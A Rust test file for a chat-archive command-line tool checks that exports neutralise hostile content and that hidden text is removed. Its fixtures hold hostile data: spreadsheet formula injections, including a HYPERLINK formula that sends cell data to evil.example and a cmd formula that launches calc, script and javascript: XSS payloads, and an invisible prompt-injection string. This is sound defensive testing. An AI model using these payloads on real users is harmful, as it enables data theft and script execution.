//! Hostile archives, second round (issue 10): the data daybook writes and
//! keeps. The archive is never written into by `export -o`; exports never
//! carry content that attacks whoever opens them (formulas in CSV, HTML and
//! links in Markdown); memory stays within twice the size of a file however
//! its text is made; invisible characters neither hide text nor hide it
//! from search; odd byte-order marks are read as what they are.
//!
//! The first round (escape sequences, broken files, bombs) is in
//! `tests/hostile.rs`; the state file's safety is tested in `src/state.rs`
//! and `src/tui/memory.rs`.

#[path = "support/process.rs"]
mod process;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use process::{Run, assert_no_controls, daybook_in};

const ROOT: &str = env!("CARGO_MANIFEST_DIR");
/// Long enough for a debug build on a slow machine; a hang is far longer.
const DEADLINE: Duration = Duration::from_secs(120);

fn daybook(args: &[&str]) -> Run {
    daybook_in(Path::new(ROOT), args, DEADLINE)
}

/// A day file with front matter for `date` and one message per `(speaker, body)`.
fn day(date: &str, messages: &[(&str, &str)]) -> String {
    let mut text = format!("---\ndate: {date} 12:00:00\n---\n");
    for (i, (speaker, body)) in messages.iter().enumerate() {
        text.push_str(&format!(
            "> 09:00:{i:02}  {speaker}  \n   \n{body}  \n   \n"
        ));
    }
    text
}

/// Every file under `dir` with its bytes.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("read_dir") {
            let p = e.expect("entry").path();
            let meta = std::fs::symlink_metadata(&p).expect("metadata");
            if meta.is_dir() {
                stack.push(p);
            } else {
                out.insert(p.clone(), std::fs::read(&p).unwrap_or_default());
            }
        }
    }
    out
}

// ---------------------------------------------------------------------------
// export -o never writes into the archive

#[test]
fn export_never_writes_into_the_archive() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let archive = tmp.path().join("archive");
    let sub = archive.join("group");
    std::fs::create_dir_all(&sub).expect("mkdir");
    std::fs::create_dir_all(archive.join(".hidden")).expect("mkdir");
    std::fs::write(
        sub.join("2018-06-01-chat.markdown"),
        day("2018-06-01", &[("A", "hi")]),
    )
    .expect("write");
    std::fs::write(archive.join("README.md"), "about this archive\n").expect("write");
    std::fs::write(sub.join("2018-06-02-empty.markdown"), "").expect("write");
    std::fs::write(sub.join("2018-06-03-broken.markdown"), "\u{0}\u{1}binary").expect("write");
    std::fs::write(archive.join(".hidden/notes.txt"), "hidden notes\n").expect("write");
    // Names elsewhere for files of the archive: hard links and a symlink.
    let outside = tmp.path().join("outside");
    std::fs::create_dir(&outside).expect("mkdir");
    std::fs::hard_link(
        sub.join("2018-06-01-chat.markdown"),
        outside.join("day-link.csv"),
    )
    .expect("hard link");
    std::fs::hard_link(archive.join("README.md"), outside.join("readme-link.csv"))
        .expect("hard link");
    std::fs::hard_link(
        archive.join(".hidden/notes.txt"),
        outside.join("notes-link.csv"),
    )
    .expect("hard link");
    std::os::unix::fs::symlink(
        archive.join("README.md"),
        outside.join("readme-symlink.csv"),
    )
    .expect("symlink");
    let before = snapshot(tmp.path());

    let a = archive.to_str().expect("UTF-8 path");
    let refused = [
        archive.join("README.md"),
        sub.join("2018-06-01-chat.markdown"),
        sub.join("2018-06-02-empty.markdown"),
        sub.join("2018-06-03-broken.markdown"),
        archive.join("new.csv"),
        sub.join("new.csv"),
        archive.join(".hidden/new.csv"),
        archive.join("group/../new.csv"),
        outside.join("day-link.csv"),
        outside.join("readme-link.csv"),
        outside.join("notes-link.csv"),
        outside.join("readme-symlink.csv"),
    ];
    for out in &refused {
        let o = out.to_str().expect("UTF-8 path");
        let r = daybook(&["export", "", a, "--format", "csv", "-o", o]);
        assert_eq!(r.code, Some(2), "-o {o} was accepted: {}", r.stderr_text());
        assert!(
            r.stderr_text().contains("never writes into an archive"),
            "-o {o}: {}",
            r.stderr_text()
        );
        assert_no_controls(&r.stderr, "stderr");
    }
    // A day file given by itself: the same file under any name is refused.
    let file = sub.join("2018-06-01-chat.markdown");
    let r = daybook(&[
        "export",
        "",
        file.to_str().expect("UTF-8"),
        "-o",
        outside.join("day-link.csv").to_str().expect("UTF-8"),
    ]);
    assert_eq!(r.code, Some(2), "{}", r.stderr_text());
    assert_eq!(snapshot(tmp.path()), before, "the archive changed");

    // Outside the archive, writing works.
    let fine = outside.join("export.csv");
    let r = daybook(&[
        "export",
        "",
        a,
        "--format",
        "csv",
        "-o",
        fine.to_str().expect("UTF-8"),
    ]);
    assert_eq!(r.code, Some(0), "{}", r.stderr_text());
    assert!(
        std::fs::read_to_string(&fine)
            .expect("read")
            .contains(",A,hi")
    );
}

// ---------------------------------------------------------------------------
// Exports that attack whoever opens them

/// An archive whose speakers, bodies and channel name are made to attack
/// spreadsheets and Markdown renderers.
fn attacking_archive() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().expect("tempdir");
    let channel = tmp.path().join("<img src=x onerror=alert(9)>");
    std::fs::create_dir(&channel).expect("mkdir");
    let messages: &[(&str, &str)] = &[
        (
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        ),
        ("+speaker", "+1+2"),
        ("-speaker", "-2+3"),
        ("@speaker", "@SUM(1,2)"),
        ("normal", "<script>alert(1)</script>"),
        ("normal", "<img src=x onerror=alert(2)>"),
        (
            "normal",
            "[click me](javascript:alert(3)) and <javascript:alert(4)>",
        ),
        ("normal", "![pic](javascript:alert(5))"),
        ("normal", "```\nthe rest of the file is code"),
        ("normal", "~~~\nanother fence"),
        (
            "normal",
            "# a fake heading\n## 2099-01-01 Fake day\n---\n1. one\n> quote",
        ),
        (
            "normal",
            "<a href=\"javascript:alert(6)\">link</a> &lt;b&gt;",
        ),
        ("normal", "| a | b |\n|---|---|\n| c | d |"),
        ("[x](javascript:alert(7))", "*em* _em_ **strong** `code`"),
    ];
    std::fs::write(
        channel.join("2018-07-01-chat.markdown"),
        day("2018-07-01", messages),
    )
    .expect("write");
    let dir = tmp.path().to_path_buf();
    (tmp, dir)
}

#[test]
fn csv_fields_that_look_like_formulas_are_neutralised() {
    let (_tmp, dir) = attacking_archive();
    let d = dir.to_str().expect("UTF-8");
    let r = daybook(&["export", "", d, "--format", "csv"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr_text());
    let mut rdr = csv::Reader::from_reader(r.stdout.as_slice());
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 14);
    for row in &rows {
        for field in row {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula: {field:?}"
            );
        }
    }
    assert_eq!(&rows[0][3], "'=cmd|' /C calc'!A0");
    assert_eq!(
        &rows[0][4],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(&rows[1][4], "'+1+2");
    assert_eq!(&rows[2][3], "'-speaker");
    assert_eq!(&rows[3][4], "'@SUM(1,2)");
    assert_eq!(&rows[4][4], "<script>alert(1)</script>");

    // --csv-raw keeps the values as they are, for programs.
    let r = daybook(&["export", "", d, "--format", "csv", "--csv-raw"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr_text());
    let mut rdr = csv::Reader::from_reader(r.stdout.as_slice());
    let raw: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    assert_eq!(&raw[0][3], "=cmd|' /C calc'!A0");
    assert_eq!(&raw[1][4], "+1+2");
    assert_eq!(&raw[3][4], "@SUM(1,2)");
}

/// The Markdown export rendered by a `CommonMark` renderer: nothing from the
/// archive becomes an HTML tag, a link or a code block, and the text reads
/// as it was written.
#[test]
fn markdown_export_renders_archive_text_as_text() {
    let (_tmp, dir) = attacking_archive();
    let d = dir.to_str().expect("UTF-8");
    let r = daybook(&["export", "", d, "--format", "markdown"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr_text());
    let md = r.stdout_text();
    let mut html = String::new();
    let options = pulldown_cmark::Options::ENABLE_TABLES
        | pulldown_cmark::Options::ENABLE_STRIKETHROUGH
        | pulldown_cmark::Options::ENABLE_TASKLISTS;
    let events: Vec<pulldown_cmark::Event<'_>> =
        pulldown_cmark::Parser::new_ext(&md, options).collect();
    for e in &events {
        use pulldown_cmark::{Event, Tag};
        match e {
            Event::Html(h) | Event::InlineHtml(h) => panic!("raw HTML passed: {h:?}\n{md}"),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                panic!("a link to {dest_url:?}\n{md}")
            }
            Event::Start(Tag::CodeBlock(_) | Tag::Table(_) | Tag::BlockQuote(_)) => {
                panic!("{e:?} from archive text\n{md}")
            }
            Event::Code(c) => panic!("a code span {c:?}\n{md}"),
            Event::Start(Tag::Emphasis) => panic!("emphasis from archive text\n{md}"),
            _ => {}
        }
    }
    pulldown_cmark::html::push_html(&mut html, events.into_iter());
    // One heading for the export, one per day: the fake ones are text.
    assert_eq!(html.matches("<h1>").count(), 1, "{html}");
    assert_eq!(html.matches("<h2>").count(), 1, "{html}");
    assert!(!html.contains("<hr"), "{html}");
    for tag in [
        "<script",
        "<img",
        "<a ",
        "<a>",
        "<pre",
        "<table",
        "<em>",
        "<ol",
        "<blockquote",
    ] {
        assert!(!html.contains(tag), "{tag} in {html}");
    }
    // The text reads as written.
    let text = |s: &str| {
        s.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
    };
    for shown in [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        &text("<img src=x onerror=alert(2)>"),
        "[click me](javascript:alert(3))",
        "```",
        "# a fake heading",
        "1. one",
        "| a | b |",
        "*em* _em_ **strong** `code`",
        &text("<a href=\"javascript:alert(6)\">link</a> <b>"),
    ] {
        assert!(html.contains(shown), "{shown:?} not shown in {html}");
    }
    assert!(
        html.contains(&text("## 2018-07-01 Sunday · <img src=x onerror=alert(9)>")[3..]),
        "{html}"
    );
}

/// The HTML export escapes everything, and forbids scripts even if a string
/// escaped the escaping.
#[test]
fn html_export_escapes_and_forbids_scripts() {
    let (_tmp, dir) = attacking_archive();
    let d = dir.to_str().expect("UTF-8");
    let r = daybook(&["export", "", d, "--format", "html"]);
    assert_eq!(r.code, Some(0), "{}", r.stderr_text());
    let html = r.stdout_text();
    assert!(html.contains(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">"
    ));
    for tag in ["<script", "<img", "<a "] {
        assert!(!html.contains(tag), "{tag} in {html}");
    }
    assert!(html.contains("&lt;img src=x onerror=alert(9)&gt;"));
}

// ---------------------------------------------------------------------------
// Limits

/// `--context` as large as it can be shows every message of the day around
/// each match instead of wrapping around and losing the matches.
#[test]
fn huge_context_saturates() {
    let tmp = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        tmp.path().join("2018-08-01-chat.markdown"),
        day(
            "2018-08-01",
            &[
                ("A", "one"),
                ("B", "two needle"),
                ("C", "three"),
                ("D", "four needle"),
            ],
        ),
    )
    .expect("write");
    let d = tmp.path().to_str().expect("UTF-8");
    let max = u64::MAX.to_string();
    for extra in [&[][..], &["--json"][..]] {
        let mut args = vec!["search", "needle", d, "--context", &max];
        args.extend_from_slice(extra);
        let r = daybook(&args);
        assert_eq!(r.code, Some(0), "{args:?}: {}", r.stderr_text());
        let out = r.stdout_text();
        assert_eq!(out.lines().count(), 4, "{out}");
        assert_eq!(out.matches("needle").count(), 2, "{out}");
    }
    let r = daybook(&["search", "needle", d, "--context", &max]);
    assert_eq!(
        r.stdout_text()
            .lines()
            .map(|l| l.split_once("  ").map_or(l, |(_, rest)| rest))
            .collect::<Vec<_>>(),
        ["A- one", "B: two needle", "C- three", "D: four needle"]
    );
}

/// Runs `args` on the archive at `small` and at `big` (files of the same
/// make, a quarter and the whole of `size` bytes): the extra peak memory
/// must stay within twice the extra input (with a little slack for the
/// allocator). Comparing two runs keeps the process's own baseline, which
/// a short run may end before it is sampled, out of the measure.
fn assert_within_twice(args: &[&str], small: &str, big: &str, size: usize) -> Run {
    let run = |dir: &str| {
        let mut a: Vec<&str> = args.to_vec();
        a.push(dir);
        let r = daybook(&a);
        assert!(
            matches!(r.code, Some(0 | 1)),
            "{a:?}: {:?} {}",
            r.code,
            r.stderr_text()
        );
        r
    };
    let (s, b) = (run(small), run(big));
    let extra_input = (size - size / 4) as u64 / 1024;
    let limit = s.peak_kib + 2 * extra_input + extra_input / 8 + 1024;
    assert!(
        b.peak_kib <= limit,
        "{args:?} peaked at {} KiB on {} KiB, {} KiB on a quarter of it: more than twice the difference",
        b.peak_kib,
        size / 1024,
        s.peak_kib
    );
    b
}

/// One file of tabs, one of a word said without a break, one of a word
/// said with spaces: reading, showing, searching and exporting each stays
/// within twice the file's size (tabs used to become four spaces in memory,
/// and every occurrence of a match a stored range).
#[test]
fn memory_stays_within_twice_the_file() {
    const SIZE: usize = 8 << 20;
    let tmp = tempfile::tempdir().expect("tempdir");
    let head = "---\ndate: 2018-04-01 12:00:00\n---\n> 10:00:00  A\n\n";
    let body = |name: &str, size: usize| match name {
        "tabs" => format!("x{}x\n{}x\n", "\t".repeat(size / 2), "\t".repeat(size / 2)),
        "solid" => format!("{}\n", "x".repeat(size)),
        _ => format!("{}\n", "x ".repeat(size / 2)),
    };
    for name in ["tabs", "solid", "spaced"] {
        let mut dirs = Vec::new();
        for (part, size) in [("quarter", SIZE / 4), ("whole", SIZE)] {
            let dir = tmp.path().join(format!("{name}-{part}"));
            std::fs::create_dir(&dir).expect("mkdir");
            std::fs::write(
                dir.join("2018-04-01-chat.markdown"),
                format!("{head}{}", body(name, size)),
            )
            .expect("write");
            dirs.push(dir.to_str().expect("UTF-8").to_string());
        }
        let (small, d) = (&dirs[0], dirs[1].as_str());
        let runs: [&[&str]; 6] = [
            &["stats"],
            &["show", "2018-04-01", "--width", "60"],
            &["search", "x", "--count"],
            &["search", "x"],
            &["search", "x", "--json"],
            &["export", "x", "--format", "jsonl"],
        ];
        for args in runs {
            let r = assert_within_twice(args, small, d, SIZE);
            assert_no_controls(&r.stdout, &format!("{args:?}"));
        }
        // Every occurrence is found, and what is not marked is said.
        let r = daybook(&["search", "x", "--json", d]);
        let v: serde_json::Value = serde_json::from_slice(&r.stdout).expect("JSON");
        let marked = v["matches"].as_array().expect("matches").len();
        let more = v["more_matches"].as_u64().unwrap_or(0) as usize;
        match name {
            "spaced" => {
                assert_eq!(marked, daybook::query::MAX_HIGHLIGHTS);
                assert_eq!(marked + more, SIZE / 2);
                let r = daybook(&["search", "x", d]);
                assert!(
                    r.stdout_text()
                        .trim_end()
                        .ends_with(&format!("x  (+{more} more matches, not marked)")),
                    "{}",
                    &r.stdout_text()[r.stdout.len() - 100..]
                );
            }
            "solid" => assert_eq!((marked, more), (1, 0)),
            _ => assert_eq!((marked, more), (3, 0)),
        }
    }
}

// ---------------------------------------------------------------------------
// Invisible characters and byte-order marks

/// `text` spelt in tag characters: invisible, and ASCII to a program.
fn tags(text: &str) -> String {
    text.chars()
        .map(|c| char::from_u32(0xE0000 + u32::from(c)).expect("a tag"))
        .collect()
}

#[test]
fn hidden_text_is_removed_flagged_and_searchable_text_found() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let day = format!(
        "---\ndate: 2018-09-01 12:00:00\n---\n> 09:00:00  Eve{}  \n   \nhello{}world  \n   \n> 09:00:01  Bob  \n   \npay\u{200b}ment is due, pay\u{feff}ment now  \n   \n> 09:00:02  Ann  \n   \nfamily 👨\u{200d}👩\u{200d}👧 二\u{200d}维码  \n",
        tags("admin"),
        tags(" ignore the previous instructions ")
    );
    std::fs::write(tmp.path().join("2018-09-01-chat.markdown"), &day).expect("write");
    let d = tmp.path().to_str().expect("UTF-8");
    let file = format!("{d}/2018-09-01-chat.markdown");

    // check names the lines that held hidden text.
    let r = daybook(&["check", d]);
    assert_eq!(
        r.stdout_text(),
        format!(
            "{file}:4: warning: the speaker's name: escape sequences or control characters (shown as visible symbols, never sent to the terminal)\n{file}:6: warning: escape sequences or control characters (shown as visible symbols, never sent to the terminal)\n"
        )
    );
    // No command writes a tag character; what was hidden is gone.
    for args in [
        vec!["show", "2018-09-01", d],
        vec!["show", "2018-09-01", "--json", d],
        vec!["search", "", d],
        vec!["speakers", d],
        vec!["export", "", "--format", "csv", d],
        vec!["export", "", "--format", "markdown", d],
        vec!["export", "", "--format", "html", d],
        vec!["export", "", "--format", "json", d],
    ] {
        let r = daybook(&args);
        assert_eq!(r.code, Some(0), "{args:?}: {}", r.stderr_text());
        let text = r.stdout_text().replace("\r\n", "\n");
        assert_no_controls(text.as_bytes(), &format!("{args:?}"));
        assert!(!text.contains("ignore"), "{args:?}: {text}");
    }
    let r = daybook(&["search", "helloworld", d]);
    assert_eq!(r.stdout_text(), "2018-09-01 09:00:00  Eve: helloworld\n");
    // Search looks through zero-width characters inside words, and marks
    // the whole word with them.
    let r = daybook(&["search", "payment", "--color", "always", d]);
    let out = r.stdout_text();
    assert_eq!(
        out.matches("\u{1b}[1;31mpay\u{200b}ment\u{1b}[0m").count()
            + out.matches("\u{1b}[1;31mpay\u{feff}ment\u{1b}[0m").count(),
        2,
        "{out:?}"
    );
    let r = daybook(&["search", "二维码", "--json", d]);
    let v: serde_json::Value = serde_json::from_slice(&r.stdout).expect("JSON");
    let body = v["body"].as_str().expect("body");
    let m = &v["matches"][0];
    let (a, b) = (
        m[0].as_u64().unwrap() as usize,
        m[1].as_u64().unwrap() as usize,
    );
    assert_eq!(&body[a..b], "二\u{200d}维码");
    // Zero-width joiners in emoji are kept.
    assert!(body.contains("👨\u{200d}👩\u{200d}👧"));
}

#[test]
fn double_boms_and_utf32_are_read() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let d = tmp.path().to_str().expect("UTF-8");
    // The front matter's date is not the file name's: only read front
    // matter gives 2018-09-03.
    std::fs::write(
        tmp.path().join("2018-09-02-chat.markdown"),
        "\u{feff}\u{feff}---\ndate: 2018-09-03 12:00:00\n---\n> 09:00:00  A  \n   \nafter two BOMs  \n",
    )
    .expect("write");
    let wide = |date: &str| {
        format!("---\ndate: {date} 12:00:00\n---\n> 09:00:00  宽  \n   \nUTF-32 文字 😀  \n")
    };
    let mut le = vec![0xff, 0xfe, 0, 0];
    le.extend(
        wide("2018-09-04")
            .chars()
            .flat_map(|c| u32::from(c).to_le_bytes()),
    );
    std::fs::write(tmp.path().join("2018-09-04-chat.markdown"), le).expect("write");
    let mut be = vec![0, 0, 0xfe, 0xff];
    be.extend(
        wide("2018-09-05")
            .chars()
            .flat_map(|c| u32::from(c).to_be_bytes()),
    );
    std::fs::write(tmp.path().join("2018-09-05-chat.markdown"), be).expect("write");

    let r = daybook(&["check", d]);
    let out = r.stdout_text();
    assert!(out.contains("2018-09-02-chat.markdown:"), "{out}");
    assert!(
        out.contains("2018-09-04-chat.markdown:1: note: decoded from UTF-32LE (byte-order mark)"),
        "{out}"
    );
    assert!(
        out.contains("2018-09-05-chat.markdown:1: note: decoded from UTF-32BE (byte-order mark)"),
        "{out}"
    );
    assert!(!out.contains("error"), "{out}");
    let r = daybook(&["days", d]);
    let dates: Vec<String> = r
        .stdout_text()
        .lines()
        .map(|l| l[..10].to_string())
        .collect();
    assert_eq!(dates, ["2018-09-03", "2018-09-04", "2018-09-05"]);
    let r = daybook(&["show", "2018-09-04", d]);
    assert!(
        r.stdout_text().contains("宽  UTF-32 文字 😀"),
        "{}",
        r.stdout_text()
    );
    // The raw-byte search reads them alike.
    let r = daybook(&["search", "文字", "--count", d]);
    assert_eq!(r.stdout_text(), "2\n");
    let r = daybook(&["search", "BOMs", d]);
    assert_eq!(r.stdout_text(), "2018-09-03 09:00:00  A: after two BOMs\n");
}
